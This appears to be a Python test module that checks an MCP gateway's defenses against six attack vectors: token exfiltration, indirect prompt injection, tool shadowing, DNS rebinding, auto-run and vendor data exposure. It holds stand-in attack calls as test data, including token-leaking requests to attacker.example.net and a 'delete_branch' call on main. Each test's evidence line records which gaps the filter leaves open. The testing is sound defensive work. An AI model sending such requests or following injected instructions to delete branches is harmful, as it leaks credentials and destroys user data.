"""The attack vectors of enterprise guidance on MCP, appendix A: what stops each, and plainly what does not yet."""

from .calls import DENIED, HEADERS, body, call, ran, refused_by_filter
from .evidence import Evidence
from .mesh import GITHUB, Mesh
from .test_layer4_egress import arrived, ask

LAYER = "vectors"


def test_a1_token_theft(mesh: Mesh, evidence: Evidence) -> None:
    """A server that was taken over sends what it holds to its master, by every way that it has."""
    for host, port, name in [("attacker.example.net", 443, "attacker.example.net"), ("attacker.example.net", 80, "")]:
        ask(mesh, host, port, name, "/?token=secret")
        assert arrived(mesh) == []
    ask(mesh, "api.github.com", 443, "attacker.example.net", "/?token=secret")
    assert arrived(mesh) == []
    evidence.add(LAYER, "A.1 token theft", "layer 4", "nothing arrived. Not stopped: misuse of a listed host")


def test_a2_indirect_prompt_injection(mesh: Mesh, evidence: Evidence) -> None:
    """An agent does what a document told it: the dangerous tool waits for a human, the unknown one is not there."""
    assert not ran(call(mesh.gateway, ("delete_branch", {"name": "main"})))
    assert refused_by_filter(call(mesh.gateway, DENIED))
    assert mesh.github.calls() == []
    evidence.add(LAYER, "A.2 indirect prompt injection", "filter: approval, allow list", "nothing ran. Not stopped: the text itself is not scanned")


def test_a3_tool_shadowing(mesh: Mesh, evidence: Evidence) -> None:
    """A server that begins to offer another tool: nobody sees it, nobody can call it."""
    request = '{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{}}'
    listed = mesh.gateway.ask("POST", GITHUB, 8080, "/mcp", HEADERS, request).json()["result"]["tools"]
    names = {tool["name"] for tool in listed}
    assert "search_code" in names
    assert "system_exec" not in names
    assert refused_by_filter(call(mesh.gateway, DENIED))
    evidence.add(LAYER, "A.3 tool shadowing", "filter", "not listed, not callable. Not stopped: another meaning of an allowed name")


def test_a4_dns_rebinding(mesh: Mesh, evidence: Evidence) -> None:
    """A browser that was led here says so by its Origin."""
    reply = call(mesh.gateway, headers={"origin": "http://attacker.example.net"})
    assert reply.status == 403, reply
    assert mesh.github.calls() == []
    evidence.add(LAYER, "A.4 DNS rebinding", "filter", reply.said)


def test_a5_auto_run(mesh: Mesh, evidence: Evidence) -> None:
    """What asks for approval does not run, however often it is asked for, and beside what is allowed."""
    for _ in range(10):
        assert not ran(call(mesh.gateway, ("delete_branch", {"name": "main"})))
    batch = f"[{body('search_code', {'query': 'x'})},{body('delete_branch', {'name': 'main'})}]"
    mesh.gateway.ask("POST", GITHUB, 8080, "/mcp", HEADERS, batch)
    assert "delete_branch" not in mesh.github.calls()
    evidence.add(LAYER, "A.5 auto-run", "filter: approval", "nothing ran. Not stopped: no limit on how often an allowed tool runs")


def test_a6_vendor_data_exposure(mesh: Mesh, evidence: Evidence) -> None:
    """A server passes what it learns on to a vendor."""
    reply = ask(mesh, "api.openai.com", 443, "api.openai.com")
    assert arrived(mesh) == []
    evidence.add(LAYER, "A.6 vendor data exposure", "layer 4", f"{reply.said}. Not covered: agents that call servers outside the mesh")
